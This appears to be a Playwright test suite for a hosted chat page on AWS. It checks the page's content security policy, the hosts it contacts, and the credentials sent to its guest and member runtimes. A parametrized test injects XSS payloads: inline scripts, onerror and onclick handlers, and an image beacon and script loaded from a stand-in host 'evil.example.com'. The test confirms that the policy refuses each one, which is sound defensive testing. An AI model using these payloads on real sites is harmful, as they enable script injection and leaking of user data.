"""What is special about the page when it is hosted: its headers, two runtimes, no other host."""

import re
from collections.abc import Callable
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import BrowserContext, Page, Request, expect

from tests.support.guest import Guest
from tests.support.hosted_chat import DOMAIN, PAGE, HostedChat

ELSEWHERE = "evil.example.com"
# Adds to the page what would run a script, and tells what ran and what the policy refused.
INJECT = """async (html) => {
  const refused = [];
  addEventListener('securitypolicyviolation', (event) => refused.push(event.effectiveDirective));
  const holder = document.createElement('div');
  holder.innerHTML = html;
  for (const dead of holder.querySelectorAll('script')) {
    const script = document.createElement('script');
    if (dead.src) script.src = dead.src;
    script.text = dead.text;
    dead.replaceWith(script); // one that came as HTML never runs
  }
  document.body.append(holder);
  holder.querySelector('button')?.click();
  await new Promise((resolve) => setTimeout(resolve, 300));
  return [globalThis.injected === true, refused];
}"""
FETCH = """async (address) => {
  const refused = [];
  addEventListener('securitypolicyviolation', (event) => refused.push(event.effectiveDirective));
  const status = await fetch(address, { method: 'POST' }).then((a) => a.status, (e) => e.name);
  await new Promise((resolve) => setTimeout(resolve, 50)); // it is told of a refusal later
  return [status, refused];
}"""


@pytest.fixture(scope="session")
def chat(hosted_chat: HostedChat) -> HostedChat:
    """Take this one alone."""
    return hosted_chat


@pytest.fixture
def tab(page: Page, hosted_chat: HostedChat) -> Page:
    """Open the page in a tab whose policy may be tried."""
    page.goto(hosted_chat.url)
    expect(page.get_by_role("textbox", name="Message")).to_be_visible()
    return page


@pytest.fixture
def asked(hosted_chat: HostedChat) -> HostedChat:
    """Forget what earlier tests have asked for."""
    hosted_chat.asked.clear()
    return hosted_chat


def opened(new_tab: Callable[[], Guest]) -> Guest:
    """Open a tab and wait for all that the page asks for by itself."""
    guest = new_tab()
    expect(guest.page.get_by_role("textbox", name="Message")).to_be_visible()
    guest.page.wait_for_load_state("networkidle")
    return guest


def makes_a_visit(guest: Guest) -> None:
    """Do all that a guest can: ask, sign in, refresh, sign out, ask again."""
    guest.signs_in()
    guest.changes_session(expiresAt=1)
    guest.say("Show my profile")
    guest.hears("Here is your guest record", times=2)
    guest.button("Sign out").click()
    guest.is_anonymous()
    guest.say("When is breakfast?")
    guest.hears("7:30")


def test_aws_code_is_loaded_with_the_first_anonymous_message(
    asked: HostedChat, new_tab: Callable[[], Guest]
) -> None:
    guest = opened(new_tab)
    named = set(re.findall(r'(?:src|href)="\.(/assets/[^"]+)"', (PAGE / "index.html").read_text()))
    assert len(named) == 2
    assert {each.host for each in asked.asked if each.host in asked.hosts} == {DOMAIN}
    assert set(asked.asked_of(DOMAIN)) == {"/", "/config.json"} | named

    guest.say("When is breakfast?")
    guest.hears("7:30")
    assert any(path.startswith("/assets/guest-aws-") for path in asked.asked_of(DOMAIN))


def test_member_needs_no_aws_code(asked: HostedChat, guest: Guest) -> None:
    guest.signs_in()
    context = guest.page.context.browser.new_context(  # type: ignore[union-attr]
        storage_state=guest.page.context.storage_state()
    )
    asked.asked.clear()
    member = Guest(context.new_page(), guest.stack, asked)
    member.page.goto(asked.url)
    member.say("Show my profile")
    member.hears("Here is your guest record")
    context.close()
    assert not [path for path in asked.asked_of(DOMAIN) if "guest-aws" in path]
    assert asked.asked_of(asked.host("sts")) == []


def test_page_talks_to_all_that_its_policy_lets_and_to_nothing_else(
    asked: HostedChat, new_tab: Callable[[], Guest], context: BrowserContext
) -> None:
    addresses: list[str] = []

    def sent(request: Request) -> None:
        addresses.append(request.url)

    context.on("request", sent)
    policies: list[str] = []
    context.on(
        "response",
        lambda response: policies.append(response.headers.get("content-security-policy", "")),
    )
    makes_a_visit(new_tab())

    hosts = {urlsplit(address).hostname for address in addresses}
    assert hosts == asked.hosts
    assert {urlsplit(address).scheme for address in addresses} == {"https"}
    (policy,) = {policy for policy in policies if policy}
    (origins,) = re.findall(r"connect-src 'self' ([^;]+);", policy)
    assert set(origins.split()) == {f"https://{host}" for host in hosts - {DOMAIN}}


def test_runtime_never_gets_the_credentials_for_the_other(asked: HostedChat, guest: Guest) -> None:
    makes_a_visit(guest)

    messages = [
        each
        for each in asked.asked
        if each.host == asked.host("bedrock-agentcore") and each.method == "POST"
    ]
    for_guests = [each for each in messages if "runtime%2FGuest-" in each.path]
    for_members = [each for each in messages if "runtime%2FMember-" in each.path]
    assert len(for_guests) == 4
    assert len(for_members) == 2
    assert len(messages) == 6
    for message in messages:
        assert "cookie" not in message.headers
        assert b"eyJ" not in message.body
    for message in for_guests:
        assert message.headers["authorization"].startswith("AWS4-HMAC-SHA256 ")
        assert "Bearer" not in str(message.headers.items())
    for message in for_members:
        assert message.headers["authorization"].startswith("Bearer eyJ")
        names = {name for name in message.headers if name.startswith("x-amz")}
        assert names == {"x-amzn-bedrock-agentcore-runtime-session-id"}
        assert "AWS4" not in str(message.headers.items())


@pytest.mark.parametrize(
    ("statuses", "words"),
    [
        ([409, 409], "The last message is still being answered"),
        ([424], "The assistant could not answer that"),
        ([429], "The assistant is very busy. Please try again in a minute."),
    ],
)
@pytest.mark.parametrize("member", [False, True], ids=["guest", "member"])
def test_refusal_of_agentcore_is_told_in_words_and_the_chat_goes_on(
    asked: HostedChat, guest: Guest, statuses: list[int], words: str, member: bool
) -> None:
    if member:
        guest.signs_in()
    posted = guest.posted()
    asked.is_refused_next(*statuses)
    guest.say("When is breakfast?")
    expect(guest.page.get_by_role("alert")).to_contain_text(words, timeout=15_000)
    assert len(posted) == len(statuses)
    guest.button("Try again").click()
    guest.hears("7:30")
    if member:
        guest.is_signed_in()


def test_guests_who_are_too_many_for_the_identity_pool_are_told_so(
    guest: Guest, hosted_chat: HostedChat
) -> None:
    guest.page.route(
        f"https://{hosted_chat.host('cognito-identity')}/",
        lambda route: route.fulfill(status=429, json={"__type": "TooManyRequestsException"}),
        times=1,
    )
    guest.say("When is breakfast?")
    expect(guest.page.get_by_role("alert")).to_contain_text("The assistant is very busy")
    guest.button("Try again").click()
    guest.hears("7:30")


@pytest.mark.parametrize(
    ("html", "directive"),
    [
        ("<script>globalThis.injected = true</script>", "script-src-elem"),
        (f"<script src='https://{ELSEWHERE}/'></script>", "script-src-elem"),
        ("<script src='data:text/javascript,injected = true'></script>", "script-src-elem"),
        ("<button onclick='injected = true'></button>", "script-src-attr"),
        ("<img src='none' onerror='injected = true'>", "script-src-attr"),
        (f"<img src='https://{ELSEWHERE}/?what-was-said'>", "img-src"),
        (f"<iframe src='https://{ELSEWHERE}/'></iframe>", "frame-src"),
    ],
)
def test_what_is_injected_into_the_page_neither_runs_nor_calls_out(
    asked: HostedChat, tab: Page, html: str, directive: str
) -> None:
    assert tab.evaluate(INJECT, html) == [False, [directive]]
    assert asked.asked_of(ELSEWHERE) == []


def test_policy_lets_the_page_fetch_from_the_named_services_alone(
    asked: HostedChat, tab: Page
) -> None:
    services = asked.hosts - {DOMAIN}
    for host in services:
        status, refused = tab.evaluate(FETCH, f"https://{host}/")
        assert isinstance(status, int)
        assert refused == []
    other_region = {host.replace("us-east-1", "eu-central-1") for host in services}
    others = {ELSEWHERE, "s3.us-east-1.amazonaws.com", "127.0.0.1"} | other_region
    for address in [f"https://{host}/" for host in others] + [f"http://{min(services)}/"]:
        assert tab.evaluate(FETCH, address) == ["TypeError", ["connect-src"]], address
    assert not [each for each in asked.asked if each.host in others]


def test_page_and_configuration_are_asked_for_anew_and_hashed_files_kept(
    asked: HostedChat, new_tab: Callable[[], Guest]
) -> None:
    opened(new_tab)
    assert any(path.startswith("/assets/") for path in asked.asked_of(DOMAIN))
    asked.asked.clear()
    opened(new_tab)
    assert set(asked.asked_of(DOMAIN)) == {"/", "/config.json"}
